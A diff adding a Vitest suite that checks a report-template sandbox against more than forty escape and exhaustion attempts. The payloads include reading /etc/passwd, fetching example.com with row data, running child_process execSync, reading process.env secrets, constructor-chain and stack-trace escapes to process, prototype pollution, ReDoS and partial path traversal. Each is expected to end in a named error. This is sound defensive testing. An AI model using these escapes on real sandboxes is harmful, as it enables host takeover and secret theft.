@@ -1,0 +1,185 @@
+import { describe, expect, test } from 'vitest'
+import type { Script } from '../../../../server/sandbox/templates/cage.ts'
+import { E } from '../../../../src/domain/fp.ts'
+import type { ReportFault } from '../../../../src/domain/reports/template/report-fault.ts'
+import { cageUnderTest } from '../../../server/sandbox/templates/cage-under-test.ts'
+
+interface Attempt {
+  readonly name: string
+  readonly parts: Partial<Script>
+  readonly ends: readonly ReportFault['_tag'][]
+}
+
+const data = JSON.stringify({ rows: [{ name: 'Ann', amount: 5 }] })
+
+const helper = (name: string, body: string, ...ends: ReportFault['_tag'][]): Attempt => ({
+  name,
+  parts: {
+    helpers: `function attempt(row, options) {\n${body}\n}`,
+    markup: '{{#each rows}}{{attempt this}}{{/each}}',
+    data,
+  },
+  ends,
+})
+
+const markup = (name: string, text: string, ...ends: ReportFault['_tag'][]): Attempt => ({
+  name,
+  parts: { markup: text, data },
+  ends,
+})
+
+const script = (name: string, text: string, ...ends: ReportFault['_tag'][]): Attempt => ({
+  name,
+  parts: { helpers: text, markup: '{{attempt 1}}', data },
+  ends,
+})
+
+const attempts: readonly Attempt[] = [
+  helper('reading a file', "return require('node:fs').readFileSync('/etc/passwd', 'utf8')", 'NotAllowed'),
+  helper('calling another computer', "fetch('https://example.com/?' + JSON.stringify(row))", 'NotAllowed'),
+  helper('opening a socket', "new WebSocket('ws://example.com')", 'NotAllowed'),
+  helper('asking the process', 'return process.env.PLUTUS_SECRET', 'NotAllowed'),
+  helper('starting a process', "return module.constructor._load('child_process').execSync('id')", 'NotAllowed'),
+  helper('the process by a constructor', "return row.constructor.constructor('return process')().pid", 'NotAllowed'),
+  helper('the process by this', "return this.constructor.constructor('return this')().process", 'NotAllowed'),
+  helper(
+    'the process by the options',
+    "return options.fn.constructor('return process')()",
+    'HelperFault',
+    'NotAllowed',
+  ),
+  helper(
+    'the process by what calls it',
+    "return attempt.caller.caller.arguments[0].constructor.constructor('return process')()",
+    'HelperFault',
+    'NotAllowed',
+  ),
+  helper('eval', "return (0, eval)('this')", 'NotAllowed'),
+  helper('a function made from text', "return new Function('return this')()", 'NotAllowed'),
+  helper('a generator made from text', "return (function* () {}).constructor('yield 1')().next()", 'NotAllowed'),
+  helper('an async function made from text', "return (async () => {}).constructor('return 1')()", 'NotAllowed'),
+  helper('WebAssembly', 'return new WebAssembly.Module([0, 97, 115, 109, 1, 0, 0, 0])', 'NotAllowed'),
+  helper('shared memory', 'return new SharedArrayBuffer(8)', 'NotAllowed'),
+  helper('waiting on shared memory', 'return Atomics.wait(row, 0, 0)', 'NotAllowed'),
+  helper('raw memory', 'return new ArrayBuffer(1e9)', 'NotAllowed'),
+  helper('a timer', 'setTimeout(() => { for (;;); }, 1)', 'NotAllowed'),
+  helper('writing to what the server reads', "console.log('written'); process.stdout.write('x')", 'NotAllowed'),
+  script('import()', "function attempt() { return import('node:fs') }", 'NotAllowed'),
+  script('import() behind a comment', "const attempt = () => import /* ( */ <!-- x\n ('node:fs')", 'NotAllowed'),
+  script(
+    'import() answered from outside',
+    "import('x').catch((e) => e.constructor.constructor('return process')())",
+    'NotAllowed',
+  ),
+  script('an import statement', "import fs from 'node:fs'", 'HelperFault', 'NotAllowed'),
+  script(
+    'changing what all objects share',
+    'Object.prototype.polluted = 1; function attempt() { return 1 }',
+    'NotAllowed',
+  ),
+  script(
+    'changing what all lists share',
+    'Array.prototype.map = () => []; function attempt() { return 1 }',
+    'NotAllowed',
+  ),
+  script('taking our place', 'var plutusRoom = { write: () => "+1,0,0\\nx" }; throw plutusRoom', 'HelperFault'),
+  script('declaring our place anew', 'const plutusRoom = { write: () => "+1,0,0\\nx" }', 'HelperFault'),
+  helper('an endless loop', 'for (;;);', 'TooSlow'),
+  script('an endless loop before any helper', 'for (;;);', 'TooSlow'),
+  script('an endless loop in what is thrown', 'throw { get message() { for (;;); } }', 'TooSlow'),
+  helper('an endless loop after the answer', 'Promise.resolve().then(() => { for (;;); }); return 1', 'TooSlow'),
+  helper('an endless loop in toString', 'return { toString() { for (;;); } }', 'TooSlow'),
+  helper('a regular expression without end', "return /^(a+)+$/.test('a'.repeat(60) + '!')", 'TooSlow'),
+  helper('recursion without end', 'return attempt(row, options)', 'HelperFault'),
+  helper(
+    'an error of the realm outside, thrown where the stack ends',
+    `let foreign
+     const keep = (e) => { if (!(e instanceof Error)) foreign ??= e }
+     const dig = () => {
+       try { void new Error('x').stack; dig() } catch (e) { try { keep(e); void e.stack } catch (f) { keep(f) } }
+     }
+     const padded = (depth) => (depth === 0 ? dig() : padded(depth - 1))
+     for (let depth = 0; depth < 20; depth++) padded(depth)
+     const { constructor } = foreign
+     const outside = Object.getPrototypeOf(Object.getPrototypeOf(constructor.prototype))
+     outside.polluted = 'by a report'
+     if (outside.polluted || constructor.constructor.prototype.polluted) return 'polluted'
+     return constructor.constructor('return process')().pid`,
+    'NotAllowed',
+    'HelperFault',
+  ),
+  helper(
+    'a list without end',
+    'const all = []; for (;;) all.push({ row, all: new Array(1000).fill(all.length) })',
+    'OutOfMemory',
+  ),
+  helper('a text without end', "let text = 'x'; for (;;) text += text", 'TooLarge'),
+  helper('an output without end', "return 'x'.repeat(9 * 1024 * 1024)", 'TooLarge'),
+  helper('a promise for an answer', 'return new Promise(() => {})', 'HelperFault'),
+  helper(
+    'prepareStackTrace',
+    `Error.prepareStackTrace = (_, sites) => sites.map((site) => site.getThis()?.constructor?.constructor('return process')())
+     return new Error('x').stack[0].pid`,
+    'HelperFault',
+    'NotAllowed',
+  ),
+  helper(
+    'functions on the stack',
+    `Error.prepareStackTrace = (_, sites) => sites
+     const last = new Error('x').stack.at(-1)
+     return last.getFunction().constructor('return process')()`,
+    'HelperFault',
+    'NotAllowed',
+  ),
+  helper(
+    'throwing a trap',
+    'throw new Proxy({}, { get() { return attempt.constructor("return process")() } })',
+    'HelperFault',
+    'NotAllowed',
+  ),
+  helper('throwing what has no words', 'throw { get message() { throw 1 }, get stack() { throw 2 } }', 'HelperFault'),
+  helper(
+    'a proxy for an answer',
+    'return new Proxy({}, { get() { throw new Error("trapped") } })',
+    'HelperFault',
+    'TemplateFault',
+  ),
+  helper('a symbol for an answer', 'return Symbol("x")', 'HelperFault', 'TemplateFault'),
+  helper('a toHTML that makes code', "return { toHTML() { return attempt.constructor('return 1')() } }", 'NotAllowed'),
+  markup('a template reaching a constructor', '{{constructor.constructor "return process"}}', 'NotAllowed'),
+  markup('a template reaching __proto__', '{{#with __proto__}}{{this}}{{/with}}', 'NotAllowed'),
+  markup('lookup of a constructor', '{{lookup (lookup this "constructor") "name"}}', 'NotAllowed'),
+  markup('lookup of a name put together', '{{lookup this (concat "__pro" "to__")}}', 'NotAllowed'),
+  markup('a method that is not data', '{{#with rows}}{{push "x"}}{{/with}}', 'NotAllowed', 'TemplateFault'),
+  markup('a forged chart', '<plutus-chart>{"graph":{"__proto__":[]}}</plutus-chart>', 'TemplateFault'),
+  markup(
+    'a chart of what is no graph',
+    '{{chart rows type="constructor" label="name" value="amount"}}',
+    'TemplateFault',
+  ),
+  markup('a partial from a file', '{{> ../../etc/passwd}}', 'TemplateFault'),
+]
+
+describe('every attempt ends in a named error, and the next report is as it should be', () => {
+  const limits = { memoryMb: 96, outputLength: 8 * 1024 * 1024 }
+  const patient = cageUnderTest({ ...limits, timeMs: 15_000 })
+  const hasty = cageUnderTest({ ...limits, timeMs: 500 })
+
+  test('there are more than forty', () => {
+    expect(attempts.length).toBeGreaterThan(40)
+  })
+
+  test.each(attempts)('$name', async ({ parts, ends }) => {
+    const write = ends.includes('TooSlow') ? hasty : patient
+    const answer = await write(parts)
+    expect(E.isLeft(answer) ? ends.filter((tag) => tag === answer.left._tag) : answer).toHaveLength(1)
+    const fault = E.isLeft(answer) ? answer.left : { message: '' }
+    expect(fault.message).not.toMatch(/node:|\/work|\/home|\/usr|\bat .*:\d+:\d+/)
+    const next = await write({
+      markup: '{{#each rows}}{{name}} {{currency amount}} {{shared}}{{/each}}',
+      helpers: 'function shared() { return [typeof polluted, [1].map(String).length, typeof attempt].join() }',
+      data,
+    })
+    expect(next).toEqual(E.right({ markup: 'Ann $5.00 undefined,1,undefined', header: '', footer: '' }))
+  })
+})
